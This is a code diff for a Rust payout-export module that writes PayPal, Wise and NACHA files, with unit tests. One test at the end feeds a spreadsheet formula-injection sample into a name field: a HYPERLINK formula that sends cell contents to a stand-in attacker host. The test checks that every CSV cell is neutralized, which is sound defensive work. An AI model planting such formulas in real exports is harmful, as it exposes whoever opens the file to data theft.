@@ -1,14 +1,22 @@
-//! Export files of an approved batch: PayPal Payouts CSV (web upload, ≤ 5,000 rows per
-//! file) and API JSON, Wise batch CSV, NACHA ACH. The row writers are pure; [`generate`]
-//! pages through the items (500 rows per query) and writes row by row. The hash of a
-//! file goes out in a header ahead of it, so the first export of a (batch, format,
-//! part) is generated once into an encrypted spool ([`crate::spool`]) while it is
-//! hashed, the hash recorded, and the file sent from the spool. A re-export is
-//! generated again as it is sent, with the recorded hash as the header, and checked
-//! against it on the way (a difference aborts the response, so the client never
-//! receives a complete file that differs from the first). Either way the database is
-//! read once per download and memory stays one page of rows plus a buffer.
+//! Export files of an approved batch, each as its provider publishes it: PayPal Payouts
+//! CSV (web upload, ≤ 5,000 rows per file) and API JSON (≤ 15,000 items per request),
+//! Wise batch CSV (one template for email recipients, one for US bank accounts, ≤ 1,000
+//! transfers per file), NACHA ACH (a PPD batch for consumers, a CCD batch for
+//! businesses). The row writers are pure; [`generate`] pages through the items (500
+//! rows per query) and writes row by row. The hash of a file goes out in a header ahead
+//! of it, so the first export of a (batch, format, part) is generated once into an
+//! encrypted spool ([`crate::spool`]) while it is hashed, the hash recorded, and the
+//! file sent from the spool. A re-export is generated again as it is sent, with the
+//! recorded hash as the header, and checked against it on the way (a difference aborts
+//! the response, so the client never receives a complete file that differs from the
+//! first). Either way the database is read once per download and memory stays one page
+//! of rows plus a buffer.
+//!
+//! Every CSV cell goes through [`crate::text::neutralize`]: values validated at input
+//! pass unchanged, and a formula-leading value stored before that validation existed
+//! cannot run in the spreadsheet of whoever opens the file.
 
+use std::collections::HashMap;
 use std::io::Write;
 
 use chrono::NaiveDateTime;
@@ -20,7 +28,7 @@ use utoipa::ToSchema;
 
 use super::methods;
 use super::model::*;
-use super::nacha::{self, NachaWriter};
+use super::nacha::{self, NachaWriter, SecCode};
 use super::service::{amount, batch_row};
 use crate::audit::{self, AuditEvent};
 use crate::auth::RequestCtx;
@@ -29,6 +37,7 @@ use crate::db::DbConn;
 use crate::error::{AppError, AppResult};
 use crate::notifications::{self, templates::PayoutSent};
 use crate::spool::{SpoolReader, SpoolWriter};
+use crate::tax::model::TaxProfile;
 use crate::AppState;
 
 const PAGE: i64 = 500;
@@ -88,20 +97,76 @@ pub fn part_range(rows: i64, part: i64, max_rows: i64) -> Option<(i64, i64)> {
     Some((offset, max_rows.min(rows - offset).max(0)))
 }
 
+/// A new PayPal `sender_batch_id`, stored with the batch at its build: the configured
+/// prefix and 128 random bits, so two batches never share one, whatever the
+/// environment, database or restore they come from.
+pub fn new_sender_batch_id(prefix: &str) -> String {
+    format!("{prefix}-{}", uuid::Uuid::new_v4().simple())
+}
+
+/// The `sender_batch_id` of one request part: the batch's own, and the part, so each
+/// part is its own PayPal batch and a retry of a part repeats its id.
+pub fn part_sender_batch_id(batch_sender_id: &str, part: i64) -> String {
+    format!("{batch_sender_id}-{part}")
+}
+
+/// Who receives a payment, from the W-9 in force when the batch was approved (fixed,
+/// so a re-export is identical).
+#[derive(Debug, Clone, Default)]
+pub struct Receiver {
+    /// An EIN, an entity's tax classification or a business name on the W-9: Wise's
+    /// business (institution) receivers and NACHA's CCD.
+    pub business: bool,
+    /// The name Wise shows: the business name for a business, the legal name otherwise.
+    pub name: String,
+    pub address_line1: String,
+    pub address_line2: Option<String>,
+    pub city: String,
+    pub region: String,
+    pub postal_code: String,
+}
+
+impl Receiver {
+    pub fn from_w9(p: &TaxProfile) -> Self {
+        let business = p.names_a_business();
+        Self {
+            business,
+            name: match (&p.business_name, business) {
+                (Some(b), true) => b.clone(),
+                _ => p.legal_name.clone(),
+            },
+            address_line1: p.address_line1.clone(),
+            address_line2: p.address_line2.clone(),
+            city: p.city.clone(),
+            region: p.region.clone(),
+            postal_code: p.postal_code.clone(),
+        }
+    }
+}
+
 /// One payment to write.
 #[derive(Debug, Clone)]
 pub struct Row {
     pub item_id: i64,
     pub net_cents: i64,
-    /// The contributor's name on the account (or their account name for email rails).
+    /// The contributor's account name (Wise files fall back to it without a W-9).
     pub name: String,
     pub destination: Destination,
+    /// From the W-9 (Wise and NACHA files; none for PayPal).
+    pub receiver: Option<Receiver>,
 }
 
-fn csv_line(fields: &[&str]) -> String {
+impl Row {
+    fn business(&self) -> bool {
+        self.receiver.as_ref().is_some_and(|r| r.business)
+    }
+}
+
+/// One CSV line; every cell neutralized ([`crate::text::neutralize`]).
+fn csv_line<'a>(fields: impl IntoIterator<Item = &'a str>) -> String {
     let mut w = csv::WriterBuilder::new().has_headers(false).from_writer(Vec::new());
     // Writing to a Vec cannot fail.
-    let _ = w.write_record(fields);
+    let _ = w.write_record(fields.into_iter().map(crate::text::neutralize).map(|c| c.into_owned()));
     String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
 }
 
@@ -115,7 +180,7 @@ fn email_of(d: &Destination) -> &str {
 /// PayPal Payouts web upload: no header; recipient, amount, currency, customer id (our
 /// item id), note, wallet.
 pub fn paypal_csv_row(batch_id: i64, r: &Row) -> String {
-    csv_line(&[
+    csv_line([
         email_of(&r.destination),
         &amount(r.net_cents),
         "USD",
@@ -134,9 +199,10 @@ pub fn paypal_csv(batch_id: i64, rows: impl IntoIterator<Item = Row>) -> Vec<u8>
     out
 }
 
-pub fn paypal_json_head(batch_id: i64) -> String {
+/// The Payouts API request body up to its first item; `sender_batch_id` is the part's.
+pub fn paypal_json_head(sender_batch_id: &str) -> String {
     let header = json!({
-        "sender_batch_id": batch_id.to_string(),
+        "sender_batch_id": sender_batch_id,
         "recipient_type": "EMAIL",
         "email_subject": "You have a payout from Gatehouse",
         "email_message": "Your Gatehouse earnings are on their way.",
@@ -157,33 +223,120 @@ pub fn paypal_json_item(first: bool, r: &Row) -> String {
 
 pub const PAYPAL_JSON_TAIL: &str = "]}";
 
-pub const WISE_HEADER: &str =
-    "name,recipientEmail,paymentReference,receiverType,amountCurrency,amount,sourceCurrency,targetCurrency,abartn,accountNumber,accountType\n";
+/// Wise's two batch templates for USD payouts (docs/payouts.md gives the source of
+/// each column): one for recipients Wise reaches by email, one for US bank accounts.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum WiseTemplate {
+    Email,
+    BankAccount,
+}
 
-/// Wise batch transfer row in USD: an email recipient or a US bank account.
+impl WiseTemplate {
+    pub fn kind(self) -> DestinationKind {
+        match self {
+            Self::Email => DestinationKind::Email,
+            Self::BankAccount => DestinationKind::Bank,
+        }
+    }
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::Email => "email",
+            Self::BankAccount => "bank_account",
+        }
+    }
+    /// The header row, as data.
+    pub fn columns(self) -> &'static [&'static str] {
+        match self {
+            Self::Email => WISE_EMAIL_COLUMNS,
+            Self::BankAccount => WISE_BANK_COLUMNS,
+        }
+    }
+    pub fn header(self) -> String {
+        csv_line(self.columns().iter().copied())
+    }
+}
+
+pub const WISE_EMAIL_COLUMNS: &[&str] = &[
+    "name",
+    "recipientEmail",
+    "paymentReference",
+    "receiverType",
+    "amountCurrency",
+    "amount",
+    "sourceCurrency",
+    "targetCurrency",
+];
+
+pub const WISE_BANK_COLUMNS: &[&str] = &[
+    "name",
+    "recipientEmail",
+    "paymentReference",
+    "receiverType",
+    "amountCurrency",
+    "amount",
+    "sourceCurrency",
+    "targetCurrency",
+    "abartn",
+    "accountNumber",
+    "accountType",
+    "addressCountryCode",
+    "addressCity",
+    "addressFirstLine",
+    "addressState",
+    "addressPostCode",
+];
+
+/// Wise's receiver type: a person, or an institution (a business).
+fn receiver_type(r: &Row) -> &'static str {
+    if r.business() {
+        "INSTITUTION"
+    } else {
+        "PERSON"
+    }
+}
+
+/// A Wise batch row in USD to USD, the recipient receiving exactly our net amount
+/// (`amountCurrency` = `target`), referenced `GH{item id}`. Email recipients: the W-9
+/// name (the business name for a business). Bank accounts: the account holder's name
+/// and the W-9 address, which Wise requires for USD recipients.
 pub fn wise_row(r: &Row) -> String {
     let reference = format!("GH{}", r.item_id);
     let net = amount(r.net_cents);
+    let kind = receiver_type(r);
     match &r.destination {
         Destination::Email { email } => {
-            csv_line(&[&r.name, email, &reference, "PRIVATE", "target", &net, "USD", "USD", "", "", ""])
+            let name = r.receiver.as_ref().map_or(r.name.as_str(), |x| x.name.as_str());
+            csv_line([name, email.as_str(), &reference, kind, "target", &net, "USD", "USD"])
         }
-        Destination::Bank(b) => csv_line(&[
-            &b.holder_name,
-            "",
-            &reference,
-            "PRIVATE",
-            "target",
-            &net,
-            "USD",
-            "USD",
-            &b.routing_number,
-            &b.account_number,
-            match b.account_type {
-                BankAccountType::Checking => "CHECKING",
-                BankAccountType::Savings => "SAVINGS",
-            },
-        ]),
+        Destination::Bank(b) => {
+            let empty = Receiver::default();
+            let a = r.receiver.as_ref().unwrap_or(&empty);
+            let first_line = match &a.address_line2 {
+                Some(l2) if !l2.trim().is_empty() => format!("{} {}", a.address_line1, l2.trim()),
+                _ => a.address_line1.clone(),
+            };
+            csv_line([
+                b.holder_name.as_str(),
+                "",
+                &reference,
+                kind,
+                "target",
+                &net,
+                "USD",
+                "USD",
+                &b.routing_number,
+                &b.account_number,
+                match b.account_type {
+                    BankAccountType::Checking => "CHECKING",
+                    BankAccountType::Savings => "SAVINGS",
+                },
+                "US",
+                &a.city,
+                &first_line,
+                &a.region,
+                &a.postal_code,
+            ])
+        }
     }
 }
 
@@ -202,6 +355,21 @@ pub fn nacha_entry(w: &mut NachaWriter<'_>, r: &Row) -> String {
     })
 }
 
+/// Which items one file takes: those of the rail (and destination kind, for Wise's
+/// templates) from the `offset`-th, `limit` of them, in position order.
+#[derive(Debug, Clone, Copy)]
+pub struct Slice {
+    pub kind: Option<DestinationKind>,
+    pub offset: i64,
+    pub limit: i64,
+}
+
+const ANY_KIND: [&str; 2] = ["email", "bank"];
+
+fn kinds(kind: Option<DestinationKind>) -> Vec<&'static str> {
+    kind.map_or(ANY_KIND.to_vec(), |k| vec![k.as_str()])
+}
+
 /// The rail's item count: its largest position (positions are 1..n, by index).
 fn count_items(conn: &mut DbConn, batch_id: i64, rail: Rail) -> AppResult<i64> {
     let last: Option<i64> = payout_items::table
@@ -212,24 +380,48 @@ fn count_items(conn: &mut DbConn, batch_id: i64, rail: Rail) -> AppResult<i64> {
     Ok(last.unwrap_or(0))
 }
 
-/// Items of the rail in position order after position `after`, with what a file needs,
-/// decrypted; and the last position read.
-fn page(
-    st: &AppState,
-    conn: &mut DbConn,
-    batch_id: i64,
-    rail: Rail,
-    after: i64,
-    limit: i64,
-) -> AppResult<(Vec<Row>, Option<i64>)> {
-    let items = payout_items::table
+/// The rail's items paying one kind of destination.
+fn count_kind(conn: &mut DbConn, batch_id: i64, rail: Rail, kind: DestinationKind) -> AppResult<i64> {
+    Ok(payout_items::table
         .inner_join(payout_methods::table)
         .filter(payout_items::batch_id.eq(batch_id))
         .filter(payout_items::rail.eq(rail.as_str()))
+        .filter(payout_methods::destination_kind.eq(kind.as_str()))
+        .count()
+        .get_result(conn)?)
+}
+
+/// The position after which a slice starts: by index for a whole rail (positions are
+/// dense), else the position of the last item of the kind before the slice.
+fn start_after(conn: &mut DbConn, batch_id: i64, rail: Rail, slice: &Slice) -> AppResult<i64> {
+    match slice.kind {
+        _ if slice.offset == 0 => Ok(0),
+        None => Ok(slice.offset),
+        Some(kind) => Ok(payout_items::table
+            .inner_join(payout_methods::table)
+            .filter(payout_items::batch_id.eq(batch_id))
+            .filter(payout_items::rail.eq(rail.as_str()))
+            .filter(payout_methods::destination_kind.eq(kind.as_str()))
+            .order(payout_items::rail_position.asc())
+            .offset(slice.offset - 1)
+            .select(payout_items::rail_position)
+            .first(conn)?),
+    }
+}
+
+/// Items of the rail in position order after position `after`, with what a file needs,
+/// decrypted; and the last position read.
+fn page(st: &AppState, conn: &mut DbConn, plan: &Plan, after: i64, limit: i64) -> AppResult<(Vec<Row>, Option<i64>)> {
+    let rail = plan.format.rail();
+    let items = payout_items::table
+        .inner_join(payout_methods::table)
+        .filter(payout_items::batch_id.eq(plan.batch_id))
+        .filter(payout_items::rail.eq(rail.as_str()))
         .filter(payout_items::rail_position.gt(after))
+        .filter(payout_methods::destination_kind.eq_any(kinds(plan.slice.kind)))
         .order(payout_items::rail_position.asc())
         .limit(limit);
-    let rows: Vec<(i64, i64, i64, MethodRow, String)> = if rail == Rail::Wise {
+    let rows: Vec<(i64, i64, i64, i64, MethodRow, String)> = if rail == Rail::Wise {
         // Only Wise files carry the contributor's name (email recipients have no
         // account holder): the other rails skip the join to `users`.
         items
@@ -237,6 +429,7 @@ fn page(
             .select((
                 payout_items::rail_position,
                 payout_items::id,
+                payout_items::contributor_id,
                 payout_items::net_cents,
                 MethodRow::as_select(),
                 users::full_name,
@@ -247,6 +440,7 @@ fn page(
             .select((
                 payout_items::rail_position,
                 payout_items::id,
+                payout_items::contributor_id,
                 payout_items::net_cents,
                 MethodRow::as_select(),
                 diesel::dsl::sql::<diesel::sql_types::Text>("''"),
@@ -254,31 +448,42 @@ fn page(
             .load(conn)?
     };
     let last = rows.last().map(|r| r.0);
+    // PayPal files name nobody; Wise and NACHA files need the W-9's receiver.
+    let w9s = if rail == Rail::Paypal {
+        HashMap::new()
+    } else {
+        let ids: Vec<i64> = rows.iter().map(|r| r.2).collect();
+        crate::tax::service::profiles_in_force_of(conn, &ids, plan.approved_at)?
+    };
     let rows = rows
         .into_iter()
-        .map(|(_, item_id, net_cents, m, name)| {
-            Ok(Row { item_id, net_cents, name, destination: methods::destination(st, &m)? })
+        .map(|(_, item_id, contributor_id, net_cents, m, name)| {
+            Ok(Row {
+                item_id,
+                net_cents,
+                name,
+                destination: methods::destination(st, &m)?,
+                receiver: w9s.get(&contributor_id).map(Receiver::from_w9),
+            })
         })
         .collect::<AppResult<Vec<_>>>()?;
     Ok((rows, last))
 }
 
-/// Calls `f` for each row of the range (`limit` items from position `offset + 1`),
-/// `PAGE` rows per query: one page of rows in memory at a time. A part starts by
-/// index at its first position, whatever the parts before it hold.
+/// Calls `f` for each row of the plan's slice, `PAGE` rows per query: one page of rows
+/// in memory at a time. A part starts by index at its first position, whatever the
+/// parts before it hold.
 fn for_rows(
     st: &AppState,
     conn: &mut DbConn,
-    batch_id: i64,
-    rail: Rail,
-    (offset, limit): (i64, i64),
+    plan: &Plan,
     mut f: impl FnMut(&Row) -> std::io::Result<()>,
 ) -> AppResult<i64> {
-    let mut after = offset;
-    let mut left = limit;
+    let mut after = start_after(conn, plan.batch_id, plan.format.rail(), &plan.slice)?;
+    let mut left = plan.slice.limit;
     let mut written = 0;
     while left > 0 {
-        let (rows, last) = page(st, conn, batch_id, rail, after, PAGE.min(left))?;
+        let (rows, last) = page(st, conn, plan, after, PAGE.min(left))?;
         let Some(last) = last else { break };
         for r in &rows {
             f(r).map_err(write_error)?;
@@ -295,20 +500,28 @@ fn write_error(e: std::io::Error) -> AppError {
 }
 
 /// What one export file is: checked once, then generated.
-#[derive(Debug, Clone, Copy)]
+#[derive(Debug, Clone)]
 pub struct Plan {
     pub batch_id: i64,
     pub format: Format,
     pub part: i64,
     pub parts: i64,
-    range: (i64, i64),
+    pub slice: Slice,
+    /// Wise files: the template of this part.
+    pub wise_template: Option<WiseTemplate>,
     approved_at: NaiveDateTime,
+    /// When this file was first exported (now, at its first export): dates the NACHA
+    /// file and its effective entry date, so a re-export is identical.
+    pub created: NaiveDateTime,
+    /// PayPal API: the request's `sender_batch_id`.
+    pub sender_batch_id: String,
 }
 
 impl Plan {
     pub fn filename(&self) -> String {
+        let template = self.wise_template.map(|t| format!("-{}", t.as_str())).unwrap_or_default();
         let suffix = if self.parts > 1 { format!("-part-{}", self.part) } else { String::new() };
-        format!("payout-batch-{}-{}{suffix}.{}", self.batch_id, self.format.as_str(), self.format.extension())
+        format!("payout-batch-{}-{}{template}{suffix}.{}", self.batch_id, self.format.as_str(), self.format.extension())
     }
 }
 
@@ -329,22 +542,61 @@ pub fn plan(st: &AppState, conn: &mut DbConn, batch_id: i64, format: Format, par
     if total == 0 {
         return Err(AppError::conflict("nothing_to_export", format!("the batch has no {} items", rail.as_str())));
     }
-    let max = if format == Format::PaypalCsv { st.config.payouts.paypal_csv_max_rows } else { total };
-    let range = part_range(total, part, max).ok_or(AppError::NotFound)?;
-    Ok(Plan { batch_id, format, part, parts: part_count(total, max), range, approved_at })
+    let cfg = &st.config.payouts;
+    let whole = |max: i64| -> AppResult<(Slice, i64)> {
+        let (offset, limit) = part_range(total, part, max).ok_or(AppError::NotFound)?;
+        Ok((Slice { kind: None, offset, limit }, part_count(total, max)))
+    };
+    let (slice, parts, wise_template) = match format {
+        Format::PaypalCsv => whole(cfg.paypal_csv_max_rows).map(|(s, p)| (s, p, None))?,
+        Format::PaypalJson => whole(cfg.paypal_api_max_items).map(|(s, p)| (s, p, None))?,
+        Format::Nacha => whole(total).map(|(s, p)| (s, p, None))?,
+        Format::WiseCsv => {
+            // Email parts first, then bank-account parts; a template with no items has none.
+            let max = cfg.wise_csv_max_rows;
+            let mut parts = Vec::new();
+            for template in [WiseTemplate::Email, WiseTemplate::BankAccount] {
+                let n = count_kind(conn, batch_id, rail, template.kind())?;
+                for p in 1..=if n > 0 { part_count(n, max) } else { 0 } {
+                    parts.push((template, part_range(n, p, max).unwrap_or((0, 0))));
+                }
+            }
+            let count = parts.len() as i64;
+            let index = usize::try_from(part - 1).map_err(|_| AppError::NotFound)?;
+            let (template, (offset, limit)) = parts.get(index).copied().ok_or(AppError::NotFound)?;
+            (Slice { kind: Some(template.kind()), offset, limit }, count, Some(template))
+        }
+    };
+    let created = payout_exports::table
+        .filter(payout_exports::batch_id.eq(batch_id))
+        .filter(payout_exports::format.eq(format.as_str()))
+        .filter(payout_exports::part.eq(part as i32))
+        .select(payout_exports::exported_at)
+        .first(conn)
+        .optional()?
+        .unwrap_or_else(|| st.clock.now());
+    Ok(Plan {
+        batch_id,
+        format,
+        part,
+        parts,
+        slice,
+        wise_template,
+        approved_at,
+        created,
+        sender_batch_id: part_sender_batch_id(&batch.sender_batch_id, part),
+    })
 }
 
 /// Writes the file row by row into `out`; returns the number of items written.
 pub fn generate(st: &AppState, conn: &mut DbConn, plan: &Plan, out: &mut dyn Write) -> AppResult<i64> {
-    let (batch_id, rail, range) = (plan.batch_id, plan.format.rail(), plan.range);
+    let batch_id = plan.batch_id;
     match plan.format {
-        Format::PaypalCsv => {
-            for_rows(st, conn, batch_id, rail, range, |r| out.write_all(paypal_csv_row(batch_id, r).as_bytes()))
-        }
+        Format::PaypalCsv => for_rows(st, conn, plan, |r| out.write_all(paypal_csv_row(batch_id, r).as_bytes())),
         Format::PaypalJson => {
-            out.write_all(paypal_json_head(batch_id).as_bytes()).map_err(write_error)?;
+            out.write_all(paypal_json_head(&plan.sender_batch_id).as_bytes()).map_err(write_error)?;
             let mut first = true;
-            let n = for_rows(st, conn, batch_id, rail, range, |r| {
+            let n = for_rows(st, conn, plan, |r| {
                 let item = paypal_json_item(first, r);
                 first = false;
                 out.write_all(item.as_bytes())
@@ -353,18 +605,35 @@ pub fn generate(st: &AppState, conn: &mut DbConn, plan: &Plan, out: &mut dyn Wri
             Ok(n)
         }
         Format::WiseCsv => {
-            out.write_all(WISE_HEADER.as_bytes()).map_err(write_error)?;
-            for_rows(st, conn, batch_id, rail, range, |r| out.write_all(wise_row(r).as_bytes()))
+            let template = plan.wise_template.unwrap_or(WiseTemplate::BankAccount);
+            out.write_all(template.header().as_bytes()).map_err(write_error)?;
+            for_rows(st, conn, plan, |r| out.write_all(wise_row(r).as_bytes()))
         }
         Format::Nacha => {
-            // The approval time dates the file, so a re-export is byte-identical.
+            // The first export's time dates the file and its effective entry date (the
+            // next banking day), so a re-export is byte-identical. Consumers' credits
+            // form a PPD batch, businesses' a CCD batch: one pass over the items each.
             let o = &st.config.payouts.nacha;
-            let approved_at = plan.approved_at;
-            let (mut w, head) = NachaWriter::start(o, approved_at, nacha::next_business_day(approved_at.date()), 1);
+            let (mut w, head) = NachaWriter::start(o, plan.created, nacha::effective_entry_date(plan.created.date()));
             out.write_all(head.as_bytes()).map_err(write_error)?;
-            let n = for_rows(st, conn, batch_id, rail, range, |r| out.write_all(nacha_entry(&mut w, r).as_bytes()))?;
+            let mut n = 0;
+            for sec in [SecCode::Ppd, SecCode::Ccd] {
+                let mut open = false;
+                n += for_rows(st, conn, plan, |r| {
+                    if r.business() != (sec == SecCode::Ccd) {
+                        return Ok(());
+                    }
+                    if !open {
+                        open = true;
+                        out.write_all(w.begin_batch(sec).as_bytes())?;
+                    }
+                    out.write_all(nacha_entry(&mut w, r).as_bytes())
+                })?;
+                out.write_all(w.end_batch().as_bytes()).map_err(write_error)?;
+            }
             out.write_all(w.finish().as_bytes()).map_err(write_error)?;
-            Ok(n)
+            // Each item was read once per class and written once.
+            Ok(n / 2)
         }
     }
 }
@@ -434,7 +703,7 @@ pub fn prepare(
         let bytes = hash.bytes;
         Ok((plan, hash.hex(), bytes, items, Body::Spooled(Box::new(spool))))
     })?;
-    record(st, ctx, finance_id, batch_id, format, part, &sha256, bytes, items)?;
+    record(st, ctx, finance_id, &plan, &sha256, bytes, items)?;
     Ok(Prepared { plan, sha256, body })
 }
 
@@ -466,18 +735,16 @@ fn recorded(conn: &mut DbConn, batch_id: i64, format: Format, part: i64) -> AppR
         .optional()?)
 }
 
-#[allow(clippy::too_many_arguments)]
 fn record(
     st: &AppState,
     ctx: &RequestCtx,
     finance_id: i64,
-    batch_id: i64,
-    format: Format,
-    part: i64,
+    plan: &Plan,
     sha256: &str,
     bytes: i64,
     items: i64,
 ) -> AppResult<()> {
+    let (batch_id, format, part) = (plan.batch_id, plan.format, plan.part);
     st.db.tx_sync(|conn| {
         let now = st.clock.now();
         let previous: Option<String> = payout_exports::table
@@ -505,7 +772,8 @@ fn record(
                         byte_count: bytes,
                         item_count: items,
                         exported_by: finance_id,
-                        exported_at: now,
+                        // The time the file was generated with (it dates a NACHA file).
+                        exported_at: plan.created,
                     })
                     .execute(conn)?;
             }
@@ -593,7 +861,40 @@ mod tests {
             net_cents: 1_000 + item_id,
             name: "Ana".into(),
             destination: Destination::Email { email: format!("p{item_id}@example.com") },
+            receiver: None,
         }
+    }
+
+    fn w9(business: bool) -> Receiver {
+        Receiver {
+            business,
+            name: if business { "Dee Labeling LLC".into() } else { "Dee Doe".into() },
+            address_line1: "1 Elm St".into(),
+            address_line2: Some("Apt 2".into()),
+            city: "Austin".into(),
+            region: "TX".into(),
+            postal_code: "78701".into(),
+        }
+    }
+
+    fn bank(receiver: Option<Receiver>) -> Row {
+        Row {
+            item_id: 5,
+            net_cents: 2_550,
+            name: "Dee, Jr".into(),
+            destination: Destination::Bank(BankAccount {
+                holder_name: "Dee, Jr".into(),
+                routing_number: "021000021".into(),
+                account_number: "123456789".into(),
+                account_type: BankAccountType::Savings,
+            }),
+            receiver,
+        }
+    }
+
+    fn cells(line: &str) -> Vec<String> {
+        let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_bytes());
+        r.records().next().unwrap().unwrap().iter().map(String::from).collect()
     }
 
     #[test]
@@ -629,31 +930,105 @@ mod tests {
 
     #[test]
     fn paypal_json_is_the_payouts_api_body() {
-        let mut s = paypal_json_head(42);
+        let mut s = paypal_json_head("GH-abc-1");
         s.push_str(&paypal_json_item(true, &paypal(1)));
         s.push_str(&paypal_json_item(false, &paypal(2)));
         s.push_str(PAYPAL_JSON_TAIL);
         let v: serde_json::Value = serde_json::from_str(&s).unwrap();
-        assert_eq!(v["sender_batch_header"]["sender_batch_id"], "42");
+        assert_eq!(v["sender_batch_header"]["sender_batch_id"], "GH-abc-1");
         assert_eq!(v["items"][1]["sender_item_id"], "2");
         assert_eq!(v["items"][1]["amount"]["value"], "10.02");
         assert_eq!(v["items"][0]["receiver"], "p1@example.com");
     }
 
     #[test]
-    fn wise_rows_quote_and_fill_bank_columns() {
-        let r = Row {
-            item_id: 5,
-            net_cents: 2_550,
-            name: "Dee, Jr".into(),
-            destination: Destination::Bank(BankAccount {
-                holder_name: "Dee, Jr".into(),
-                routing_number: "021000021".into(),
-                account_number: "123456789".into(),
-                account_type: BankAccountType::Savings,
-            }),
-        };
-        assert_eq!(wise_row(&r), "\"Dee, Jr\",,GH5,PRIVATE,target,25.50,USD,USD,021000021,123456789,SAVINGS\n");
-        assert_eq!(WISE_HEADER.split(',').count(), 11);
+    fn sender_batch_ids_are_random_per_batch_and_stable_per_part() {
+        let ids: std::collections::BTreeSet<String> = (0..1_000).map(|_| new_sender_batch_id("GH")).collect();
+        assert_eq!(ids.len(), 1_000, "never repeated");
+        let id = new_sender_batch_id("PROD");
+        assert!(id.starts_with("PROD-") && id.len() == 5 + 32, "{id}");
+        assert_eq!(part_sender_batch_id(&id, 2), part_sender_batch_id(&id, 2), "a retry repeats the part's id");
+        assert_ne!(part_sender_batch_id(&id, 1), part_sender_batch_id(&id, 2));
+        // PayPal: sender_batch_id is at most 256 characters (payments_payouts_batch_v1).
+        assert!(part_sender_batch_id(&new_sender_batch_id(&"P".repeat(32)), 99_999).len() <= 256);
+    }
+
+    #[test]
+    fn wise_templates_have_wise_column_names() {
+        assert_eq!(
+            WiseTemplate::Email.header(),
+            "name,recipientEmail,paymentReference,receiverType,amountCurrency,amount,sourceCurrency,targetCurrency\n"
+        );
+        let bank = WiseTemplate::BankAccount.columns();
+        assert_eq!(&bank[..8], WISE_EMAIL_COLUMNS, "the bank template extends the email one");
+        assert_eq!(
+            &bank[8..],
+            [
+                "abartn",
+                "accountNumber",
+                "accountType",
+                "addressCountryCode",
+                "addressCity",
+                "addressFirstLine",
+                "addressState",
+                "addressPostCode"
+            ]
+        );
+    }
+
+    #[test]
+    fn wise_bank_rows_carry_the_account_and_the_w9_address() {
+        let row = cells(&wise_row(&bank(Some(w9(false)))));
+        assert_eq!(row.len(), WISE_BANK_COLUMNS.len());
+        assert_eq!(
+            row,
+            [
+                "Dee, Jr",
+                "",
+                "GH5",
+                "PERSON",
+                "target",
+                "25.50",
+                "USD",
+                "USD",
+                "021000021",
+                "123456789",
+                "SAVINGS",
+                "US",
+                "Austin",
+                "1 Elm St Apt 2",
+                "TX",
+                "78701"
+            ]
+        );
+        assert_eq!(wise_row(&bank(Some(w9(false)))).matches('"').count(), 2, "only the comma-bearing name is quoted");
+        let business = cells(&wise_row(&bank(Some(w9(true)))));
+        assert_eq!((business[0].as_str(), business[3].as_str()), ("Dee, Jr", "INSTITUTION"), "the holder's name");
+    }
+
+    #[test]
+    fn wise_email_rows_name_the_w9_payee() {
+        let mut r = paypal(9);
+        r.receiver = Some(w9(true));
+        let row = cells(&wise_row(&r));
+        assert_eq!(row, ["Dee Labeling LLC", "p9@example.com", "GH9", "INSTITUTION", "target", "10.09", "USD", "USD"]);
+        r.receiver = Some(w9(false));
+        assert_eq!(cells(&wise_row(&r))[..4], ["Dee Doe", "p9@example.com", "GH9", "PERSON"]);
+        r.receiver = None;
+        assert_eq!(cells(&wise_row(&r))[0], "Ana", "the account name without a W-9");
+    }
+
+    #[test]
+    fn stored_formula_names_are_neutralized_in_every_csv() {
+        let mut r = paypal(3);
+        r.name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".into();
+        let row = cells(&wise_row(&r));
+        assert_eq!(row[0], "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")");
+        let mut b = bank(None);
+        if let Destination::Bank(acct) = &mut b.destination {
+            acct.holder_name = "@SUM(1+1)".into();
+        }
+        assert_eq!(cells(&wise_row(&b))[0], "'@SUM(1+1)");
+        assert_eq!(cells(&wise_row(&bank(None)))[0], "Dee, Jr", "a validated name is unchanged");
     }
 }
